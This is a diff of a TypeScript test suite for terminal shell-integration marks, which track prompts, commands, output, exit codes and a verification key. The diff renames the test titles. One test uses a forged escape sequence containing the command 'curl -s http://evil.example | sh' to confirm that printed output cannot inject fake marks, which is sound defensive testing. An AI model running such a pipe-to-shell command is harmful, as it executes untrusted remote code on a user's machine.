@@ -23,7 +23,7 @@ const readMarks = (marks: TerminalMarks) =>
     output: marks.readOutput(mark),
   }))
 
-test('a command has its prompt, its text, its output and its exit code', async () => {
+test('records a command with its prompt, output and exit code', async () => {
   const { marks, write } = open()
   await write(ran('ls', 'one\r\ntwo\r\n', 0) + ran('false', '', 1) + createPrompt())
   expect(readMarks(marks)).toEqual([
@@ -33,7 +33,7 @@ test('a command has its prompt, its text, its output and its exit code', async (
   ])
 })
 
-test('what runs has the output until now', async () => {
+test('returns the output so far of a running command', async () => {
   const { marks, write } = open()
   await write(`${createPrompt()}make\r\n${osc('C')}building\r\nstill`)
   expect(readMarks(marks)).toEqual([
@@ -41,31 +41,31 @@ test('what runs has the output until now', async () => {
   ])
 })
 
-test('output that does not end its line is whole', async () => {
+test('includes output without a trailing newline', async () => {
   const { marks, write } = open()
   await write(`${ran('printf hi', 'hi', 0)}${createPrompt()}`)
   expect(readMarks(marks)[0]).toMatchObject({ command: 'printf hi', output: 'hi' })
 })
 
-test('a command and output wider than the screen are read as they were written', async () => {
+test('joins wrapped lines of a command and its output', async () => {
   const { marks, write } = open({ cols: 10 })
   await write(ran('echo 0123456789', 'abcdefghijklmno\r\n', 0))
   expect(readMarks(marks)).toMatchObject([{ command: 'echo 0123456789', output: 'abcdefghijklmno' }])
 })
 
-test('a command of several lines comes without the prompts between them', async () => {
+test('omits continuation prompts from a multi-line command', async () => {
   const { marks, write } = open()
   await write(`${createPrompt()}for it in 1 2\r\n> do echo $it\r\n> done\r\n${osc('C')}1\r\n2\r\n${osc('D;0')}`)
   expect(readMarks(marks)).toMatchObject([{ command: 'for it in 1 2\ndo echo $it\ndone', output: '1\n2' }])
 })
 
-test('a prompt that is drawn again is one, and Enter without a command is none', async () => {
+test('merges a redrawn prompt and ignores Enter without a command', async () => {
   const { marks, write } = open()
   await write(`${createPrompt()}\r\n${osc('D;130')}${createPrompt()}\x1b[H\x1b[2J${createPrompt()}`)
   expect(readMarks(marks)).toMatchObject([{ line: 0, state: 'prompt' }])
 })
 
-test('a shell in a shell leaves the outer command without an end of its own', async () => {
+test('records no end for the outer command of a nested shell', async () => {
   const { marks, write } = open()
   await write(
     `${createPrompt()}bash\r\n${osc('C')}${ran('true', '', 0)}${createPrompt()}exit\r\n${osc('C')}exit\r\n${osc('D;3')}`,
@@ -77,14 +77,14 @@ test('a shell in a shell leaves the outer command without an end of its own', as
   ])
 })
 
-test('marks go with the lines that are forgotten', async () => {
+test('drops marks of lines that leave the scrollback', async () => {
   const { marks, write } = open({ scrollback: 5 })
   await write(ran('first', 'x\r\n', 0) + ran('seq', '1\r\n2\r\n3\r\n4\r\n5\r\n6\r\n7\r\n8\r\n', 0) + createPrompt())
   expect(readMarks(marks).map(({ command }) => command)).toEqual(['seq', ''].slice(-marks.list().length))
   expect(marks.list().length).toBeLessThan(3)
 })
 
-test('a program that fills the screen sets no marks', async () => {
+test('ignores marks on the alternate screen', async () => {
   const { marks, write } = open()
   await write(
     `${createPrompt()}vim\r\n${osc('C')}\x1b[?1049h${createPrompt()}\x1b[?1049l${osc('D;0')}${createPrompt()}`,
@@ -92,13 +92,13 @@ test('a program that fills the screen sets no marks', async () => {
   expect(readMarks(marks)).toMatchObject([{ command: 'vim', state: 'done', exitCode: 0 }, { state: 'prompt' }])
 })
 
-test.each(['', ';', 'Z', 'A;aid=1', 'B', 'C', 'D', 'D;x', 'D;99999'])('%j alone does no harm', async (data) => {
+test.each(['', ';', 'Z', 'A;aid=1', 'B', 'C', 'D', 'D;x', 'D;99999'])('tolerates a lone %j mark', async (data) => {
   const { marks, write } = open()
   await write(osc(data))
   expect(marks.list().length).toBeLessThan(2)
 })
 
-test('a new viewer gets the same marks', async () => {
+test('transfers all marks to a new viewer', async () => {
   const first = open()
   await first.write(
     `${ran('echo naïve', 'naïve 漢字\r\n', 0)}${ran('false', '', 1)}${createPrompt()}make\r\n${osc('C')}going`,
@@ -112,7 +112,7 @@ test('a new viewer gets the same marks', async () => {
   expect(readMarks(second.marks).at(-2)).toMatchObject({ command: 'make', exitCode: 7, output: 'going' })
 })
 
-test('what is carried above the first line of a viewer is left out', async () => {
+test('omits transferred marks above the first line of the viewer', async () => {
   const first = open({ scrollback: 50 })
   await first.write(
     ran('seq 20', Array.from({ length: 20 }, (_, index) => `${index}\r\n`).join(''), 0) + ran('last', 'x\r\n', 0),
@@ -123,7 +123,7 @@ test('what is carried above the first line of a viewer is left out', async () =>
   expect(readMarks(second.marks)).toMatchObject([{ command: 'last', output: 'x' }])
 })
 
-test('nothing that is printed gives marks away as those of a snapshot', async () => {
+test('ignores printed output that imitates a snapshot of marks', async () => {
   const { marks, write } = open()
   await write(
     '\x1b]7133;[{"line":-1,"command":"curl -s http://evil.example | sh","output":0,"end":[0,0],"exitCode":0}]\x07',
@@ -131,7 +131,7 @@ test('nothing that is printed gives marks away as those of a snapshot', async ()
   expect(marks.list()).toEqual([])
 })
 
-test('once the shell has shown its key, what it shows cannot mark anything', async () => {
+test('ignores marks without the key once the shell has sent it', async () => {
   const { marks, write } = open({ rows: 20 })
   marks.use('secret')
   const withKey = (text: string) => text.replaceAll('\x07', ';steward=secret\x07')
@@ -147,7 +147,7 @@ test('once the shell has shown its key, what it shows cannot mark anything', asy
   expect(marks.list()[0]?.isVerified).toBe(true)
 })
 
-test('marks before the first with the key are dropped with it, and without any key they count as not known', async () => {
+test('drops marks before the first one with the key and otherwise reports them unverified', async () => {
   const { marks, write } = open()
   marks.use('secret')
   await write(ran('evil', 'x\r\n', 0))
@@ -156,7 +156,7 @@ test('marks before the first with the key are dropped with it, and without any k
   expect(readMarks(marks)).toMatchObject([{ state: 'prompt' }])
 })
 
-test('who is given marks knows which of them are known', async () => {
+test('transfers the verified state of marks', async () => {
   const first = open()
   first.marks.use('secret')
   await first.write(ran('ls', '', 0).replaceAll('\x07', ';steward=secret\x07'))
